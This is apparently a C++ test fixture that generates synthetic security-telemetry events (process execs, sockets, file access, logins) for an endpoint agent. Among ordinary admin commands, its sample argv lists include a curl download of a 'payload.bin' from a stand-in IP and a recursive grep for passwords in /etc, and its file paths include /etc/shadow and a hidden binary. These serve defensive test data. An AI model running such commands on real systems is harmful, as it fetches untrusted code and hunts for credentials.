#include "tests/support/sample_events.h"

#include <string>

namespace zagent::testing {

namespace {

struct Program {
  const char* exe;
  const char* comm;
  std::vector<std::vector<std::string>> argvs;
};

const std::vector<Program>& programs() {
  static const std::vector<Program> p = {
      {"/usr/bin/bash", "bash", {{"bash", "-c", "systemctl status nginx"}, {"/bin/bash", "--login"}}},
      {"/usr/bin/curl", "curl",
       {{"curl", "-fsSL", "https://deb.debian.org/debian/dists/bookworm/InRelease"},
        {"curl", "-s", "-o", "/tmp/payload.bin", "http://203.0.113.7:8080/update"}}},
      {"/usr/bin/ssh", "ssh", {{"ssh", "-p", "22", "deploy@10.1.4.20", "uptime"}}},
      {"/usr/bin/python3.11", "python3",
       {{"/usr/bin/python3", "/opt/app/manage.py", "runserver", "0.0.0.0:8000"},
        {"python3", "-m", "pip", "install", "--user", "requests==2.31.0"}}},
      {"/usr/bin/git", "git", {{"git", "fetch", "--prune", "origin"}, {"git", "status", "--porcelain"}}},
      {"/usr/sbin/cron", "cron", {{"/usr/sbin/CRON", "-f"}}},
      {"/usr/bin/ls", "ls", {{"ls", "-la", "/var/log"}, {"ls", "--color=auto"}}},
      {"/usr/bin/grep", "grep", {{"grep", "-r", "password", "/etc/"}, {"grep", "-c", "sshd", "/var/log/auth.log"}}},
      {"/usr/lib/systemd/systemd-journald", "systemd-journal", {{"/lib/systemd/systemd-journald"}}},
      {"/usr/bin/dpkg", "dpkg", {{"dpkg", "--status", "openssh-server"}}},
  };
  return p;
}

const char* kCwds[] = {"/root", "/home/alice", "/home/bob/src/app", "/", "/var/www/html", "/tmp"};
const char* kUsersFiles[] = {"/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/resolv.conf",
                             "/home/alice/.ssh/authorized_keys", "/home/bob/.bashrc",
                             "/usr/bin/.hidden-x", "/etc/cron.d/backup", "/var/www/html/index.php"};
const uint32_t kRemoteV4[] = {0xCB007107, 0x5DB8D822, 0x0A01040F, 0x08080808, 0xC6336401, 0x0A0100FE};
const uint16_t kRemotePorts[] = {443, 80, 22, 53, 8080, 5432, 6379, 8443};

}  // namespace

SampleEvents::SampleEvents(uint64_t seed, int64_t start_ts)
    : rng_(seed), ts_(start_ts), start_ts_(start_ts) {}

uint64_t SampleEvents::boot_ns() const {
  // The host booted a day before the first event.
  return static_cast<uint64_t>(ts_ - start_ts_) + 86'400'000'000'000ull;
}

int64_t SampleEvents::next_ts() {
  ts_ += 1'000 + static_cast<int64_t>(pick(20'000));
  return ts_;
}

ProcessExec SampleEvents::exec() {
  const Program& p = programs()[pick(static_cast<uint32_t>(programs().size()))];
  ProcessExec e;
  e.pid = ++next_pid_;
  e.ppid = 1000 + pick(50);
  e.start_boot_ns = boot_ns();
  e.parent_start_boot_ns = e.start_boot_ns - 1'000'000'000;
  e.uid = e.euid = pick(4) == 0 ? 0 : 1000 + pick(2);
  e.gid = e.egid = e.uid;
  e.login_uid = e.uid;
  e.session_id = 2 + pick(5);
  e.exe = p.exe;
  e.argv = p.argvs[pick(static_cast<uint32_t>(p.argvs.size()))];
  e.cwd = kCwds[pick(6)];
  e.comm = p.comm;
  e.tty = pick(3) == 0 ? "pts/0" : "";
  e.cgroup_id = 4000 + pick(8);
  e.exe_sha256 = std::string(32, static_cast<char>(0x40 + (p.exe[5] & 0x1f)));
  e.exe_hash_status = HashStatus::Ok;
  return e;
}

SocketEvent SampleEvents::socket() {
  SocketEvent s;
  const uint32_t r = pick(10);
  s.action = r < 5 ? SocketAction::Connect : r < 8 ? SocketAction::Close : SocketAction::Accept;
  s.protocol = pick(5) == 0 ? Protocol::Udp : Protocol::Tcp;
  s.pid = next_pid_ - pick(20);
  s.start_boot_ns = boot_ns() - pick(1000) * 1'000'000ull;
  s.uid = pick(3) == 0 ? 0 : 1000;
  const Program& p = programs()[pick(static_cast<uint32_t>(programs().size()))];
  s.comm = p.comm;
  s.exe = p.exe;
  if (pick(8) == 0) {
    std::array<uint8_t, 16> v6 = {0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1};
    v6[15] = static_cast<uint8_t>(1 + pick(4));
    s.remote_addr = IpAddress::v6(v6);
    v6[15] = 0x10;
    s.local_addr = IpAddress::v6(v6);
  } else {
    s.local_addr = IpAddress::v4(0x0A010002);
    s.remote_addr = IpAddress::v4(kRemoteV4[pick(6)]);
  }
  s.local_port = static_cast<uint16_t>(32768 + pick(28000));
  s.remote_port = kRemotePorts[pick(8)];
  if (s.action == SocketAction::Close) {
    s.bytes_sent = 200 + pick(5000);
    s.bytes_received = 1000 + pick(200000);
  }
  return s;
}

FileEvent SampleEvents::file() {
  FileEvent f;
  f.action = static_cast<FileAction>(pick(5));
  f.pid = next_pid_ - pick(20);
  f.start_boot_ns = boot_ns() - pick(1000) * 1'000'000ull;
  f.uid = pick(2) == 0 ? 0 : 1000;
  const Program& p = programs()[pick(static_cast<uint32_t>(programs().size()))];
  f.comm = p.comm;
  f.exe = p.exe;
  f.path = kUsersFiles[pick(9)];
  if (f.action == FileAction::Rename) f.new_path = f.path + ".bak";
  if (f.action == FileAction::Chmod || f.action == FileAction::Create) f.mode = pick(2) ? 0644 : 0755;
  return f;
}

EventBody SampleEvents::next_body() {
  // About the mix of a busy server: mostly sockets, a fair share of process
  // lifecycle, some file events, few logins and sensor records.
  const uint32_t r = pick(1000);
  if (r < 120) return exec();
  if (r < 200) {
    return ProcessFork{next_pid_ + 1, 1000 + pick(50), boot_ns(),
                       0, 1000, programs()[pick(10)].comm};
  }
  if (r < 320) {
    return ProcessExit{next_pid_ - pick(10), boot_ns() - 5'000'000,
                       pick(4) == 0 ? 1 : 0, 0, 5'000'000 + pick(1'000'000), programs()[pick(10)].comm};
  }
  if (r < 820) return socket();
  if (r < 990) return file();
  if (r < 995) {
    return LoginEvent{pick(2) ? LoginAction::Start : LoginAction::End, "alice", "pts/1", "10.1.4.20",
                      IpAddress::v4(0x0A01040F), 3000 + pick(100), 5 + pick(3)};
  }
  return SensorEvent{SensorAction::EventsLost, "exec", "ring buffer full", {{"process_exec", pick(5)}}};
}

std::vector<Event> SampleEvents::make(size_t n, uint64_t first_seq) {
  std::vector<Event> out;
  out.reserve(n);
  for (size_t i = 0; i < n; ++i) {
    EventBody body = next_body();
    out.push_back(Event{next_ts(), first_seq + i, std::move(body)});
  }
  return out;
}

}  // namespace zagent::testing
